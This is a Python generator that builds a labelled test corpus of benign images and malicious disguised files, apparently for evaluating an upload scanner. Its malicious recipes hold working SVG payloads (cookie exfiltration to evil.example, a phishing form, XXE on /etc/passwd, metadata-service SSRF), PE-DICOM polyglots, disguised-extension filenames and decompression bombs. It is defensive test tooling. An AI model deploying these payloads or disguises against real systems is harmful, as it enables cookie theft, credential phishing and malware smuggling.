"""Deterministic generator of a large, varied evaluation corpus (benign and malicious files).

The corpus is built like an independent evaluator would build one: benign pictures with
the options, metadata, trailers and names clinics really see, and malicious files of
every kind issue 2 names (payloads after the logical end, payloads in metadata,
image-named non-images, active SVG, PE-DICOM, name tricks, lying trailer metadata,
decompression-bomb headers). Every file comes from a recipe and a per-file seed
(`seed/category/index`), so a smaller `scale` yields an exact subset of the full corpus.

    items = list(generate(seed=2024, scale=1.0))      # ~700 benign + ~750 malicious
    write_corpus(folder, items)                       # folder/<label>/<category>/<n>/<name>
"""

from __future__ import annotations

import gzip
import json
import random
import struct
import sys
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent
if str(REPO_ROOT) not in sys.path:  # run as a script: make `bench` and `tests` importable
    sys.path.insert(0, str(REPO_ROOT))

from bench import eval_classify  # noqa: E402
from bench import eval_images as img  # noqa: E402
from bench import eval_payloads as pay  # noqa: E402
from bench.eval_disguises import RECIPES as DISGUISE_RECIPES  # noqa: E402
from bench.eval_redteam import RECIPES as REDTEAM_RECIPES  # noqa: E402
from bench.eval_walkers import RECIPES as WALKER_RECIPES  # noqa: E402
from bench.eval_writers import RECIPES as WRITER_RECIPES  # noqa: E402
from bench.recipe import Maker, Recipe  # noqa: E402
from tests import jpeg_samples as js  # noqa: E402

DEFAULT_SEED = 2024


@dataclass(frozen=True)
class Item:
    """One corpus file: where it belongs, its name and bytes, and why it is what it is."""

    category: str
    malicious: bool
    name: str
    data: bytes
    note: str = ""


# --- names ----------------------------------------------------------------------------------

_ORDINARY_STEMS = (
    "IMG_{n:04d}",
    "DSC{n:05d}",
    "PXL_20240115_{n:06d}",
    "photo_{n}",
    "scan_{n}",
    "20240115_{n:06d}",
    "xray-{n}",
    "patient-{n}",
)
# Benign but odd names (issue 2: these must not be findings).
ODD_NAMES = (
    "scan.2024.01.15.{ext}",
    "IMG_1234.{EXT}",
    "photo (1).{ext}",
    "photo (2) copy.{ext}",
    "صورة المريض.{ext}",
    "צילום רנטגן.{ext}",
    "患者照片.{ext}",
    "写真_2024年.{ext}",
    "party 🎉😀.{ext}",
    "family 👨\u200d👩\u200d👧.{ext}",
    "عکس\u200cها.{ext}",
    "my photo from the clinic.{ext}",
    "a.b.c.{ext}",
    "Screenshot 2024-01-15 at 10.22.31.{ext}",
    "WhatsApp Image 2024-01-15 at 09.12.44.{ext}",
    "image-{n}-final.v2.{ext}",
    "holiday   .{ext}",
    "IMG_{n:04d}.HEIC.{ext}",
    "scan.pdf.{ext}",
    "photo.jpg.{ext}",
    "www.example-clinic.com.{ext}",
    "exercise-sheet.{ext}",
)
_RASTER_EXPORT_NAMES = frozenset({"IMG_{n:04d}.HEIC.{ext}", "scan.pdf.{ext}", "photo.jpg.{ext}"})
_EXTENSIONS = {
    "jpeg": ["jpg", "jpg", "jpg", "JPG", "jpeg", "JPEG", "jfif", "jpe"],
    "png": ["png", "PNG"],
    "gif": ["gif"],
    "webp": ["webp"],
    "bmp": ["bmp", "dib"],
    "tiff": ["tif", "tiff", "TIF"],
    "heic": ["heic", "HEIC", "heif"],
    "avif": ["avif"],
    "ico": ["ico"],
    "dicom": ["dcm", "dcm", "DCM", "dicom"],
    "svg": ["svg"],
}


def ordinary_name(rng: random.Random, fmt: str) -> str:
    """A camera/scanner-style name with an extension fitting the format."""
    stem = rng.choice(_ORDINARY_STEMS).format(n=rng.randint(1, 99999))
    return f"{stem}.{rng.choice(_EXTENSIONS[fmt])}"


def odd_name(rng: random.Random, fmt: str) -> str:
    """A benign but unusual name (dots, parentheses, RTL/CJK/emoji, spaces, upper case)."""
    ext = rng.choice(_EXTENSIONS[fmt])
    templates = ODD_NAMES
    if fmt == "svg":  # "IMG_1.HEIC.svg" is no real export; photo decoys are raster-only
        templates = tuple(t for t in ODD_NAMES if t not in _RASTER_EXPORT_NAMES)
    return rng.choice(templates).format(n=rng.randint(1, 999), ext=ext.lower(), EXT=ext.upper())


# --- hosts: a benign file of each format, as (format, bytes) --------------------------------

HOSTS: dict[str, Callable[[random.Random], bytes]] = {
    "jpeg": lambda rng: img.jpeg(rng)[0],
    "jpeg-thumb": lambda rng: img.jpeg_with_thumbnail(rng)[0],
    "jpeg-mpo": lambda rng: img.mpo(rng)[0],
    "jpeg-motion": lambda rng: _motion_photo(rng)[0],
    "png": lambda rng: img.png(rng)[0],
    "apng": lambda rng: img.apng(rng)[0],
    "gif": lambda rng: img.gif(rng)[0],
    "webp": lambda rng: img.webp(rng)[0],
    "bmp": lambda rng: img.bmp(rng)[0],
    "tiff": lambda rng: img.tiff(rng)[0],
    "heic": lambda rng: img.heic(rng)[0],
    "avif": lambda rng: img.avif(rng)[0],
    "ico": lambda rng: img.ico(rng)[0],
    "dicom": lambda rng: img.dicom(rng)[0],
}
_HOST_FORMAT = {"jpeg-thumb": "jpeg", "jpeg-mpo": "jpeg", "jpeg-motion": "jpeg", "apng": "png"}


def host_format(host: str) -> str:
    """The extension family of a host kind."""
    return _HOST_FORMAT.get(host, host)


# --- phone trailers (benign) ----------------------------------------------------------------


def _small_jpeg(rng: random.Random) -> bytes:
    return img._save(img.photo_image(rng, (rng.randint(64, 400), rng.randint(48, 300))), "JPEG")


def _mp4(rng: random.Random) -> bytes:
    return js.mp4(media_bytes=rng.randint(500, 20000), seed=rng.randrange(1 << 30))


def _motion_photo(rng: random.Random) -> tuple[bytes, str]:
    video = _mp4(rng)
    items = [("image/jpeg", "Primary", 0, 0), ("video/mp4", "MotionPhoto", len(video), 0)]
    return js.with_xmp(_small_jpeg(rng), js.container_xmp(items)) + video, "motion photo"


def _phone_trailer(rng: random.Random) -> tuple[bytes, str]:
    kind = rng.choice(
        ["motion", "motion-debug", "micro", "mpf", "seft", "seft-motion", "zeros", "afcp",
         "fotostation", "photomechanic", "insta360"]
    )  # fmt: skip
    base = _small_jpeg(rng)
    if kind == "motion":
        return _motion_photo(rng)[0], kind
    if kind == "motion-debug":
        video = _mp4(rng)
        items = [("image/jpeg", "Primary", 0, 0), ("video/mp4", "MotionPhoto", len(video), 0)]
        debug = js.debug_blobs(count=rng.randint(1, 4), seed=rng.randrange(1000))
        return js.with_xmp(base, js.container_xmp(items)) + debug + video, kind
    if kind == "micro":
        video = _mp4(rng)
        packet = (
            '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
            '22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:GCamera="http://ns.google.'
            'com/photos/1.0/camera/" GCamera:MicroVideo="1" GCamera:MicroVideoOffset='
            f'"{len(video)}"/></rdf:RDF></x:xmpmeta>'
        ).encode()
        return js.with_xmp(base, packet) + video, kind
    if kind == "mpf":
        return js.mpo(_small_jpeg(rng), pad=rng.choice([0, 0, 16, 200])), kind
    if kind in ("seft", "seft-motion"):
        records = [(0x0A01, b"Image_UTC_Data", b"1700000000000")]
        if kind == "seft-motion":
            records.append((0x0A30, b"MotionPhoto_Data", _mp4(rng)))
        if rng.random() < 0.5:
            records.append((0x0B40, b"Camera_Capture_Mode_Info", b"1"))
        return base + js.sef_trailer(records), kind
    if kind == "zeros":
        return base + bytes(rng.choice([64, 100, 512, 4096, 20000])), kind
    if kind == "afcp":
        return base + js.afcp(len(base)), kind
    if kind == "fotostation":
        return base + js.fotostation(rng.randint(1, 4)), kind
    if kind == "photomechanic":
        return base + js.photomechanic(), kind
    return base + js.insta360(rng.randint(50, 250)), kind


# --- recipe makers: benign ------------------------------------------------------------------


def _benign(fmt: str, maker: Callable[[random.Random], tuple[bytes, str]]) -> Maker:
    def make(rng: random.Random) -> tuple[str, bytes, str]:
        data, note = maker(rng)
        name = odd_name(rng, fmt) if rng.random() < 0.15 else ordinary_name(rng, fmt)
        return name, data, note

    return make


def _png_named_jpg(rng: random.Random) -> tuple[str, bytes, str]:
    data, note = img.png(rng) if rng.random() < 0.5 else img.webp(rng)
    return ordinary_name(rng, "jpeg"), data, "other image type under .jpg: " + note


def _odd_named(rng: random.Random) -> tuple[str, bytes, str]:
    fmt = rng.choice(["jpeg", "jpeg", "png", "gif", "tiff", "webp"])
    maker = {"jpeg": img.jpeg, "png": img.png, "gif": img.gif, "tiff": img.tiff, "webp": img.webp}
    data, note = maker[fmt](rng)
    return odd_name(rng, fmt), data, note


# --- recipe makers: malicious ---------------------------------------------------------------


def _trailer(payload_kind: str) -> Maker:
    host_names = list(HOSTS)

    def make(rng: random.Random) -> tuple[str, bytes, str]:
        host = rng.choice(host_names)
        data = HOSTS[host](rng)
        padding = bytes(rng.randint(8, 300)) if rng.random() < 0.2 else b""
        payload = pay.TRAILER_PAYLOADS[payload_kind](rng)
        note = f"host={host} {payload_kind} after end" + (
            f" after {len(padding)} zeros" if padding else ""
        )
        return ordinary_name(rng, host_format(host)), data + padding + payload, note

    return make


def _jpeg_segment(marker: int, body: bytes) -> bytes:
    return js.segment(marker, body[:65533])


BINARY_SAFE_PLACES = frozenset(
    {"jpeg-com", "jpeg-exif-usercomment", "jpeg-app13", "jpeg-app15", "png-ztxt", "png-private",
     "gif-comment", "gif-appext", "webp-exif"}
)  # fmt: skip


def _metadata(rng: random.Random) -> tuple[str, bytes, str]:
    place = rng.choice(
        ["jpeg-com", "jpeg-exif-usercomment", "jpeg-exif-description", "jpeg-xmp", "jpeg-app13",
         "jpeg-app15", "png-text", "png-ztxt", "png-itxt", "png-private", "gif-comment",
         "gif-appext", "webp-exif", "webp-xmp", "tiff-description"]
    )  # fmt: skip
    binary_ok = place in BINARY_SAFE_PLACES
    table = pay.BINARY_METADATA_PAYLOADS if binary_ok else pay.TEXT_METADATA_PAYLOADS
    kind = rng.choice(sorted(table))
    evil = table[kind](rng)
    note = f"{kind} in {place}"
    fmt = place.split("-")[0]
    if fmt == "jpeg":
        base = img.jpeg(rng)[0]
        if place == "jpeg-com":
            seg = _jpeg_segment(0xFE, evil)
        elif place == "jpeg-exif-usercomment":
            exif = img.exif_block(rng)
            exif.get_ifd(0x8769)[0x9286] = b"ASCII\x00\x00\x00" + evil
            seg = _jpeg_segment(0xE1, exif.tobytes())
        elif place == "jpeg-exif-description":
            exif = img.exif_block(rng)
            exif[0x010E] = evil.decode("latin-1")
            seg = _jpeg_segment(0xE1, exif.tobytes())
        elif place == "jpeg-xmp":
            packet = img.xmp_packet(rng).replace(b"</x:xmpmeta>", evil + b"</x:xmpmeta>")
            seg = _jpeg_segment(0xE1, img.XMP_SIGNATURE + packet)
        elif place == "jpeg-app13":
            irb = b"8BIM\x04\x04\x00\x00" + struct.pack(">I", len(evil)) + evil
            seg = _jpeg_segment(0xED, b"Photoshop 3.0\x00" + irb)
        else:
            seg = _jpeg_segment(0xEF, evil)
        return ordinary_name(rng, "jpeg"), js.insert_segments(base, seg), note
    if fmt == "png":
        base = img.png(rng)[0]
        if place == "png-text":
            chunk = img._png_chunk(b"tEXt", b"Comment\x00" + evil)
        elif place == "png-ztxt":
            chunk = img._png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(evil))
        elif place == "png-itxt":
            chunk = img._png_chunk(b"iTXt", b"Description\x00\x00\x00\x00\x00" + evil)
        else:
            chunk = img._png_chunk(rng.choice([b"puNk", b"prVt", b"exEc"]), evil)
        return ordinary_name(rng, "png"), base[:33] + chunk + base[33:], note
    if fmt == "gif":
        base = img.gif(rng)[0]
        sub_blocks = (
            b"".join(
                bytes([len(evil[i : i + 255])]) + evil[i : i + 255]
                for i in range(0, len(evil), 255)
            )
            + b"\x00"
        )
        if place == "gif-comment":
            ext = b"\x21\xfe" + sub_blocks
        else:
            ext = b"\x21\xff\x0bEVILAPP1.0" + sub_blocks
        position = 13 + (3 << ((base[10] & 7) + 1) if base[10] & 0x80 else 0)
        return ordinary_name(rng, "gif"), base[:position] + ext + base[position:], note
    if fmt == "webp":
        image = img.photo_image(rng, img.pick_size(rng))
        if place == "webp-exif":
            data = img._save(image, "WEBP", exif=b"Exif\x00\x00" + evil)
        else:
            data = img._save(
                image,
                "WEBP",
                xmp=img.xmp_packet(rng).replace(b"</x:xmpmeta>", evil + b"</x:xmpmeta>"),
            )
        return ordinary_name(rng, "webp"), data, note
    image = img.photo_image(rng, img.pick_size(rng))
    data = img._save(image, "TIFF", description=evil.decode("latin-1"))
    return ordinary_name(rng, "tiff"), data, note


def _pixel_payload(rng: random.Random) -> tuple[str, bytes, str]:
    """A script stored verbatim in pixel data (stored-deflate PNG IDAT, BMP pixel array)."""
    evil = rng.choice([*pay.PHP_VARIANTS, b"<script>alert(document.cookie)</script>"])
    width = max(len(evil) + 8, rng.randint(32, 128))
    height = rng.randint(4, 64)
    row_at = rng.randrange(height)
    if rng.random() < 0.5:
        rows = bytearray(img.photo_image(rng, (width, height), "L").tobytes())
        column = rng.randrange(width - len(evil))
        rows[row_at * width + column : row_at * width + column + len(evil)] = evil
        filtered = b"".join(
            b"\x00" + bytes(rows[y * width : (y + 1) * width]) for y in range(height)
        )
        ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
        data = b"\x89PNG\r\n\x1a\n" + img._png_chunk(b"IHDR", ihdr)
        data += img._png_chunk(b"IDAT", zlib.compress(filtered, 0)) + img._png_chunk(b"IEND", b"")
        return ordinary_name(rng, "png"), data, "script in stored (level 0) PNG IDAT"
    bmp = bytearray(img._save(img.photo_image(rng, (width, height), "L"), "BMP"))
    pixels_at = int.from_bytes(bmp[10:14], "little")
    stride = (width + 3) & ~3
    at = pixels_at + row_at * stride + rng.randrange(width - len(evil))
    bmp[at : at + len(evil)] = evil
    return ordinary_name(rng, "bmp"), bytes(bmp), "script in BMP pixel array"


def _non_image(rng: random.Random) -> tuple[str, bytes, str]:
    kind = rng.choice(sorted(pay.NON_IMAGES))
    fmt = rng.choice(["jpeg", "jpeg", "png", "gif", "bmp", "webp"])
    return ordinary_name(rng, fmt), pay.NON_IMAGES[kind](rng), f"{kind} named as {fmt}"


SVG_ATTACKS = (
    (
        "script",
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script '
        b'type="text/javascript">alert(document.domain)</script><rect width="10" '
        b'height="10"/></svg>',
    ),
    (
        "script-cdata",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>'
        b'<![CDATA[ fetch("//evil.example/"+document.cookie) ]]></script></svg>',
    ),
    (
        "script-external",
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"><script '
        b'xlink:href="https://evil.example/x.js"/></svg>',
    ),
    (
        "script-ecmascript",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script type="application/ecmascript">'
        b'location="https://evil.example"</script></svg>',
    ),
    (
        "onload-root",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/>'
        b'</svg>',
    ),
    (
        "onclick-rect",
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="100" height="100" '
        b'onclick="top.location=\'https://evil.example\'"/></svg>',
    ),
    (
        "onmouseover",
        b'<svg xmlns="http://www.w3.org/2000/svg"><text x="1" y="9" '
        b'onmouseover="alert(1)">hi</text></svg>',
    ),
    (
        "onbegin",
        b'<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(1)" '
        b'attributeName="x" dur="1s"/></svg>',
    ),
    (
        "set-handler",
        b'<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" '
        b'to="alert(1)"/></svg>',
    ),
    (
        "animate-href-js",
        b'<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" '
        b'values="javascript:alert(1)"/><text x="1" y="9">click</text></a></svg>',
    ),
    (
        "a-javascript",
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"><a '
        b'xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
    ),
    (
        "a-javascript-entity",
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="jav&#x09;ascript:alert(1)">'
        b'<rect width="9" height="9"/></a></svg>',
    ),
    (
        "foreignobject-iframe",
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="500" '
        b'height="500"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        b'src="https://evil.example/login"></iframe></foreignObject></svg>',
    ),
    (
        "foreignobject-form",
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" '
        b'height="200"><body xmlns="http://www.w3.org/1999/xhtml"><form '
        b'action="https://evil.example/steal"><input name="password" type="password"/>'
        b'</form></body></foreignObject></svg>',
    ),
    (
        "use-external",
        b'<svg xmlns="http://www.w3.org/2000/svg"><use '
        b'href="https://evil.example/sprite.svg#icon"/></svg>',
    ),
    (
        "use-external-xlink",
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"><use '
        b'xlink:href="//evil.example/a.svg#x"/></svg>',
    ),
    (
        "image-external",
        b'<svg xmlns="http://www.w3.org/2000/svg"><image '
        b'href="http://169.254.169.254/latest/meta-data/" width="1" height="1"/></svg>',
    ),
    (
        "image-file",
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink"><image '
        b'xlink:href="file:///etc/passwd" width="1" height="1"/></svg>',
    ),
    (
        "xxe",
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM '
        b'"file:///etc/passwd"> ]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>'
        b'&xxe;</text></svg>',
    ),
    (
        "billion-laughs",
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
        b'"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        b']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
    ),
    (
        "html-namespace-script",
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>',
    ),
    (
        "handler-tiny",
        b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load" '
        b'type="application/ecmascript">alert(1)</handler></svg>',
    ),
    (
        "iframe-srcdoc",
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe '
        b'xmlns="http://www.w3.org/1999/xhtml" '
        b'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject></svg>',
    ),
    (
        "css-import",
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import '
        b'url("https://evil.example/x.css");</style><rect width="5" height="5"/></svg>',
    ),
)  # fmt: skip


def _svg_attack(rng: random.Random) -> tuple[str, bytes, str]:
    label, attack = rng.choice(SVG_ATTACKS)
    if rng.random() < 0.5:  # wrapped into an otherwise ordinary drawing
        benign = img.svg(rng)[0]
        root, _, rest = attack.partition(b">")
        # only attacks whose root declares nothing the drawing's root lacks can be moved in
        movable = root in (
            b'<svg xmlns="http://www.w3.org/2000/svg"',
            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"',
        )
        inner = rest.rsplit(b"</svg>", 1)[0] if movable else b""
        if inner:
            attack = benign.replace(b"</svg>", inner + b"</svg>")
            label += " (in drawing)"
    if rng.random() < 0.15:
        return f"logo-{rng.randint(1, 999)}.svgz", gzip.compress(attack, mtime=0), label + " svgz"
    name = f"{rng.choice(['logo', 'chart', 'icon', 'floorplan'])}-{rng.randint(1, 999)}.svg"
    return name, attack, label


def _dicom_attack(rng: random.Random) -> tuple[str, bytes, str]:
    kind = rng.choice(
        ["pe-preamble", "elf-preamble", "pe-appended", "zip-appended", "pe-in-private"]
    )
    name = ordinary_name(rng, "dicom")
    if kind == "pe-preamble":
        pe = pay.pe_executable(rng)
        e_lfanew = int.from_bytes(pe[0x3C:0x40], "little")
        headers = pe[e_lfanew:]
        state = rng.getstate()  # build once to learn where the private value lands
        probe, _ = img.dicom(rng, private_blob=b"\xa5" * len(headers))
        rng.setstate(state)
        at = probe.index(b"\xa5" * len(headers))
        preamble = bytearray(pe[:0x40].ljust(128, b"\x00"))
        preamble[0x3C:0x40] = struct.pack("<I", at)
        data, _ = img.dicom(rng, preamble=bytes(preamble), private_blob=headers)
        return name, data, "PE-DICOM (MZ preamble, PE header in private OB)"
    if kind == "elf-preamble":
        elf = pay.elf_executable(rng)
        data, _ = img.dicom(rng, preamble=elf[:128], private_blob=elf[128:])
        return name, data, "ELF preamble DICOM"
    if kind == "pe-in-private":
        data, _ = img.dicom(rng, private_blob=pay.pe_executable(rng))
        return name, data, "PE inside a private OB element"
    data, _ = img.dicom(rng)
    payload = pay.pe_executable(rng) if kind == "pe-appended" else pay.zip_archive(rng)
    return name, data + payload, f"DICOM + {kind}"


NAME_TRICKS = (
    "{stem}.jpg.exe",
    "{stem}.jpeg.scr",
    "{stem}.png.lnk",
    "{stem}.JPG.com",
    "{stem}.jpg.js",
    "{stem}.jpg.hta",
    "{stem}.pdf.exe",
    "{stem}.jpg.vbs",
    "{stem}.png.bat",
    "{stem}.gif.pif",
    "{stem}.jpg.url",
    "{stem}.jpg                                        .exe",
    "{stem}.png\u3000\u3000\u3000\u3000\u3000\u3000.scr",
    "{stem}.jpg.exe.",
    "{stem}.jpg.exe   ",
    "{stem}.jpg.scr. . .",
    "{stem}.jpg.",
    "photo_\u202egpj.exe",
    "invoice_\u202egnp.scr",
    "{stem}\u202ejpg.exe",
    "{stem}.j\u200bpg",
    "{stem}.jpg\u200b.exe",
    "{stem}.\u200dexe",
    "{stem}\u2024jpg.exe",
    "{stem}\uff0ejpg.scr",
    "{stem}.jpg\u2066.exe",
    "{stem}\u2024png",
)


def _name_trick(rng: random.Random) -> tuple[str, bytes, str]:
    template = rng.choice(NAME_TRICKS)
    name = template.format(stem=rng.choice(["IMG_2041", "scan", "invoice", "photo", "xray"]))
    data, note = img.jpeg(rng)
    return name, data, f"name trick on a real JPEG ({note})"


def _trailer_lie(rng: random.Random) -> tuple[str, bytes, str]:
    """Trailer metadata that claims the payload is part of a benign trailer."""
    kind = rng.choice(["motion-covers-zip", "motion-covers-pe", "zip-as-mdat", "mpf-points-at-pe",
                       "mpf-size-covers-zip", "micro-covers-zip", "seft-record-zip"])  # fmt: skip
    base = _small_jpeg(rng)
    evil = pay.zip_archive(rng) if "zip" in kind else pay.pe_executable(rng)
    if kind in ("motion-covers-zip", "motion-covers-pe"):
        video = _mp4(rng)
        items = [
            ("image/jpeg", "Primary", 0, 0),
            ("video/mp4", "MotionPhoto", len(video) + len(evil), 0),
        ]
        return (
            ordinary_name(rng, "jpeg"),
            js.with_xmp(base, js.container_xmp(items)) + video + evil,
            kind,
        )
    if kind == "zip-as-mdat":
        video = js.box(b"ftyp", b"mp42\x00\x00\x00\x00isommp42") + js.box(
            b"moov", js.box(b"mvhd", bytes(100))
        )
        video += js.box(b"mdat", evil)
        items = [("image/jpeg", "Primary", 0, 0), ("video/mp4", "MotionPhoto", len(video), 0)]
        return ordinary_name(rng, "jpeg"), js.with_xmp(base, js.container_xmp(items)) + video, kind
    if kind == "micro-covers-zip":
        video = _mp4(rng) + evil
        return ordinary_name(rng, "jpeg"), js.micro_video(video), kind
    if kind == "mpf-points-at-pe":
        return ordinary_name(rng, "jpeg"), js.mpo(evil), kind
    if kind == "mpf-size-covers-zip":
        second = _small_jpeg(rng)
        data = js.mpo(second + evil)  # the MP entry's size covers the ZIP after the 2nd image
        return ordinary_name(rng, "jpeg"), data, kind
    records = [(0x0A01, b"Image_UTC_Data", b"1700000000000"), (0x0A30, b"MotionPhoto_Data", evil)]
    return ordinary_name(rng, "jpeg"), base + js.sef_trailer(records), kind


def _bomb(rng: random.Random) -> tuple[str, bytes, str]:
    fmt = rng.choice(["png", "gif", "jpeg", "webp", "tiff"])
    width, height = rng.choice([(30000, 30000), (65535, 65535), (20000, 10000)])
    if fmt == "png":
        ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        idat = zlib.compress(b"\x00" * 1024)
        data = b"\x89PNG\r\n\x1a\n" + img._png_chunk(b"IHDR", ihdr) + img._png_chunk(b"IDAT", idat)
        data += img._png_chunk(b"IEND", b"")
    elif fmt == "gif":
        gif = bytearray(img._save(img.photo_image(rng, (8, 8)).convert("P"), "GIF"))
        declared = struct.pack("<HH", min(width, 65535), min(height, 65535))
        gif[6:10] = declared
        at = 13 + (3 << ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0)
        while gif[at] == 0x21:  # skip extensions to the image descriptor
            at += 2
            while gif[at]:
                at += gif[at] + 1
            at += 1
        gif[at + 5 : at + 9] = declared
        data = bytes(gif)
    elif fmt == "jpeg":
        jpeg = bytearray(img._save(img.photo_image(rng, (16, 16)), "JPEG"))
        at = jpeg.index(b"\xff\xc0")
        jpeg[at + 5 : at + 9] = struct.pack(">HH", min(height, 65500), min(width, 65500))
        data = bytes(jpeg)
    elif fmt == "webp":
        webp = bytearray(
            img._save(
                img.photo_image(rng, (16, 16)),
                "WEBP",
                exif=b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x00\x00",
            )
        )
        at = webp.index(b"VP8X")
        webp[at + 12 : at + 18] = (16383).to_bytes(3, "little") * 2
        data = bytes(webp)
    else:
        image = img.photo_image(rng, (8, 8))
        raw = bytearray(img._save(image, "TIFF"))
        for tag in (256, 257):  # ImageWidth / ImageLength as SHORT or LONG
            for type_ in (3, 4):
                needle = struct.pack("<HHI", tag, type_, 1)
                at = raw.find(needle)
                if at >= 0:
                    size = width if tag == 256 else height
                    value = (
                        struct.pack("<H", min(size, 65535)) + b"\x00\x00"
                        if type_ == 3
                        else struct.pack("<I", size)
                    )
                    raw[at + 8 : at + 12] = value
        data = bytes(raw)
    return ordinary_name(rng, fmt), data, f"{fmt} declaring {width}x{height}"


def _header_exploits(rng: random.Random) -> tuple[str, bytes, str]:
    kind = rng.choice(["com-length-0", "com-length-1", "gif-js-polyglot"])
    if kind.startswith("com"):
        base = img.jpeg(rng)[0]
        length = 0 if kind == "com-length-0" else 1
        return (
            ordinary_name(rng, "jpeg"),
            base[:2] + b"\xff\xfe" + struct.pack(">H", length) + base[2:],
            kind,
        )
    data = bytearray(img.gif(rng)[0])
    data[6:8] = b"/*"
    data += b"*/=1;alert(document.domain);//"
    return ordinary_name(rng, "gif"), bytes(data), kind


# --- the recipe list ------------------------------------------------------------------------

RECIPES: tuple[Recipe, ...] = (
    Recipe("benign/jpeg", False, 170, _benign("jpeg", img.jpeg)),
    Recipe("benign/jpeg-large", False, 8, _benign("jpeg", lambda rng: img.jpeg(rng, large=True))),
    Recipe("benign/jpeg-thumbnail", False, 20, _benign("jpeg", img.jpeg_with_thumbnail)),
    Recipe("benign/jpeg-mpo", False, 20, _benign("jpeg", img.mpo)),
    Recipe("benign/jpeg-phone-trailer", False, 60, _benign("jpeg", _phone_trailer)),
    Recipe("benign/png", False, 70, _benign("png", img.png)),
    Recipe("benign/png-handmade", False, 20, _benign("png", img.png_handmade)),
    Recipe("benign/apng", False, 12, _benign("png", img.apng)),
    Recipe("benign/gif", False, 40, _benign("gif", img.gif)),
    Recipe("benign/webp", False, 40, _benign("webp", img.webp)),
    Recipe("benign/bmp", False, 25, _benign("bmp", img.bmp)),
    Recipe("benign/tiff", False, 35, _benign("tiff", img.tiff)),
    Recipe("benign/heic", False, 15, _benign("heic", img.heic)),
    Recipe("benign/avif", False, 15, _benign("avif", img.avif)),
    Recipe("benign/ico", False, 12, _benign("ico", img.ico)),
    Recipe("benign/dicom", False, 30, _benign("dicom", img.dicom)),
    Recipe("benign/svg", False, 40, _benign("svg", img.svg)),
    Recipe("benign/other-type-under-jpg", False, 15, _png_named_jpg),
    Recipe("benign/odd-names", False, 50, _odd_named),
    *(
        Recipe(f"malicious/trailer-{kind}", True, 22, _trailer(kind))
        for kind in pay.TRAILER_PAYLOADS
    ),
    Recipe("malicious/metadata", True, 90, _metadata),
    Recipe("malicious/non-image", True, 66, _non_image),
    Recipe("malicious/pixel-payload", True, 16, _pixel_payload),
    Recipe("malicious/svg", True, 60, _svg_attack),
    Recipe("malicious/dicom", True, 25, _dicom_attack),
    Recipe("malicious/name-trick", True, 54, _name_trick),
    Recipe("malicious/trailer-lie", True, 28, _trailer_lie),
    Recipe("malicious/bomb", True, 15, _bomb),
    Recipe("malicious/header-exploit", True, 9, _header_exploits),
    *WALKER_RECIPES,
    *WRITER_RECIPES,
    *DISGUISE_RECIPES,
    *eval_classify.RECIPES,
    *REDTEAM_RECIPES,
)


def planned_count(recipe: Recipe, scale: float) -> int:
    """How many files a recipe contributes at `scale` (at least one)."""
    return max(1, round(recipe.count * scale))


def generate(seed: int = DEFAULT_SEED, scale: float = 1.0) -> Iterator[Item]:
    """Every corpus item, recipe by recipe; item i of a recipe depends only on (seed, i)."""
    for recipe in RECIPES:
        for index in range(planned_count(recipe, scale)):
            rng = random.Random(f"{seed}/{recipe.category}/{index}")
            name, data, note = recipe.make(rng)
            yield Item(recipe.category, recipe.malicious, name, data, note)


def write_corpus(folder: Path, items: list[Item]) -> list[tuple[Path, Item]]:
    """Write items as folder/<category>/<index>/<name> plus folder/manifest.jsonl."""
    written: list[tuple[Path, Item]] = []
    counters: dict[str, int] = {}
    with (folder / "manifest.jsonl").open("w", encoding="utf-8") as manifest:
        for item in items:
            index = counters.get(item.category, 0)
            counters[item.category] = index + 1
            path = folder / item.category / f"{index:04d}" / item.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(item.data)
